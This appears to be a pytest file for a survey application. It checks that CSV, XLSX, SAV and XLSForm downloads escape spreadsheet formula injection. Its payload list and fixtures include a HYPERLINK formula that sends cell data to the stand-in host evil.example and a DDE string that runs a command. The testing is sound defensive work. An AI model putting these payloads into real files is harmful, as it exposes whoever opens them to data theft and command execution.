"""No text a citizen, an agency or an administrator typed reaches a download as a live formula."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.collect import store
from app.extensions import db
from app.models import Response
from app.programme.questionnaires import questionnaire_of
from app.shared import cells
from tests import factories
from tests.conftest import login

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "'=already quoted"]
DANGEROUS = tuple(cells.DANGEROUS)
XLSX_TEXT = {p.replace("\r", "\n") for p in PAYLOADS}  # XML normalises a CR to a line feed


def csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_inert(data: bytes | str) -> list[str]:
    found = csv_cells(data)
    live = [c for c in found if c.startswith(DANGEROUS)]
    assert live == [], f"CSV cells a spreadsheet would run: {live}"
    return found


def assert_xlsx_inert(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.value for c in found if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    return [c.value for c in found]


@pytest.fixture
def wave_with_payloads(app):
    """A wave whose agency is named like a formula and whose comments are formulas."""
    agency = factories.agency("A1", name="=HYPERLINK(\"http://evil.example\",\"x\")")
    other = factories.agency("A2")
    wave = factories.wave("w1", agency_list=[agency, other])
    questionnaire = questionnaire_of(wave.survey_version)
    answers = factories.satisfied_answers(questionnaire)
    for i in range(24):
        comment = {"comments": PAYLOADS[i % len(PAYLOADS)]}
        store.store(wave, agency if i % 2 else other, {**answers, **comment}, channel="paper", language="vi")
    db.session.commit()
    return wave


def test_escape_is_reversible_and_leaves_numbers_alone():
    for text in [*PAYLOADS, "plain", "", "'", "''-x", "a=b"]:
        assert cells.unescape(cells.escape(text)) == text
        assert not cells.escape(text).startswith(DANGEROUS)
    assert cells.escape(-3.5) == -3.5 and cells.escape(-2) == -2 and cells.escape(None) is None


def test_negative_numbers_stay_numbers_in_csv_and_xlsx():
    import pandas as pd

    from app.review.exchange import xlsx_bytes

    frame = pd.DataFrame({"delta": [-3.5, 2.0], "count": pd.array([-2, None], dtype="Int64"), "text": ["-x", "ok"]})
    found = csv_cells(cells.escape_table_text(frame).to_csv(index=False))
    assert "-3.5" in found and "-2" in found and "'-x" in found
    book = load_workbook(io.BytesIO(xlsx_bytes(frame, "t")))
    row = [c for c in next(book.active.iter_rows(min_row=2, max_row=2))]
    assert [c.value for c in row] == [-3.5, -2, "-x"]
    assert [c.data_type for c in row] == ["n", "n", "s"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_raw_export_from_the_command_line_has_no_live_formula_and_imports_back(runner, tmp_path, fmt,
                                                                               wave_with_payloads):
    path = tmp_path / f"export.{fmt}"
    result = runner.invoke(args=["responses", "export", "--wave", "w1", "--format", fmt, "--output", str(path)])
    assert result.exit_code == 0, result.output
    data = path.read_bytes()
    values = assert_csv_inert(data) if fmt == "csv" else assert_xlsx_inert(data)
    if fmt == "xlsx":
        assert XLSX_TEXT <= set(values)  # the text itself, as a string cell
    copy = factories.wave("copy", agency_list=list(wave_with_payloads.agencies))
    db.session.commit()
    result = runner.invoke(args=["responses", "import", "--wave", "copy", str(path)])
    assert result.exit_code == 0, result.output

    def comments(wave_id):  # (imports strip surrounding blanks, as the citizen's form does)
        return sorted(a["comments"].strip() for a in db.session.scalars(
            select(Response.answers).where(Response.wave_id == wave_id)))

    assert comments(copy.id) == comments(wave_with_payloads.id)  # the text as typed, not "'=..."


def test_sav_export_text_and_labels_are_inert(runner, tmp_path, wave_with_payloads):
    import pyreadstat

    path = tmp_path / "export.sav"
    assert runner.invoke(args=["responses", "export", "--wave", "w1", "--format", "sav",
                               "--output", str(path)]).exit_code == 0
    frame, meta = pyreadstat.read_sav(str(path))
    texts = [v for v in frame["comments"] if isinstance(v, str) and v]
    assert texts and not [t for t in texts if t.startswith(DANGEROUS)]
    labels = [*meta.column_labels, *(v for m in meta.variable_value_labels.values() for v in m.values())]
    assert not [label for label in labels if label and label.startswith(DANGEROUS)]


def test_admin_downloads_have_no_live_formula(client, make_user, wave_with_payloads):
    user, password = make_user("admin", email="=cmd@example.org")
    login(client, user.email, password)
    for url in ("/admin/waves/w1/export/csv", "/admin/agencies/export.csv", "/admin/audit/export.csv",
                "/admin/waves/w1/codebook.csv", "/admin/waves/w1/codebook.csv?in=en"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_csv_inert(response.data)
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in csv_cells(client.get("/admin/agencies/export.csv").data)
    response = client.get("/admin/waves/w1/export/xlsx")
    assert response.status_code == 200
    assert XLSX_TEXT <= set(assert_xlsx_inert(response.data))


def test_officials_report_and_estimates_have_no_live_formula(client, login_as, wave_with_payloads):
    login_as("official")
    response = client.get("/dashboard/w1/report.xlsx")
    assert response.status_code == 200
    values = assert_xlsx_inert(response.data)
    assert "=HYPERLINK(\"http://evil.example\",\"x\")" in values  # the agency's name, as text
    response = client.get("/dashboard/w1/estimates.csv")
    assert response.status_code == 200
    assert_csv_inert(response.data)


def test_xlsform_download_writes_labels_as_text():
    import survey_definitions as sd
    from survey_definitions import shipped
    from survey_definitions.xlsform import read_xlsform
    from survey_definitions.xlsform_export import write_xlsform

    path = next(p for p in shipped() if p.name == "per-case-61.v1.yaml")
    source = path.read_text(encoding="utf-8").replace("vi: Mã số hồ sơ", "vi: \"=HYPERLINK(\\\"http://x\\\")\"", 1)
    questionnaire, problems = sd.parse(source, path.name)
    assert problems == []
    data = write_xlsform(questionnaire)
    values = assert_xlsx_inert(data)
    assert "=HYPERLINK(\"http://x\")" in values
    definition, problems = read_xlsform(data)
    assert problems == [] and sd.from_dict(definition).checksum == questionnaire.checksum
